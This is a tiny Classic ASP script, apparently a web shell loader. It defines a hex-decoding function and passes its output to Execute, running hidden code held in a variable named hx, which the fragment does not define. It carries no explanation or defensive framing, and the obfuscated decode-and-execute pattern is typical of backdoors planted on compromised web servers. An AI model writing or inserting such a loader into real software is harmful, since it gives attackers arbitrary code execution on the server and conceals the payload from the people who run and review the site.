<%
Function xd(s)
    Dim i, o
    For i = 1 To Len(s) Step 2
        o = o & Chr(CLng("&H" & Mid(s, i, 2)))
    Next
    xd = o
End Function
Execute(xd(hx))
%>
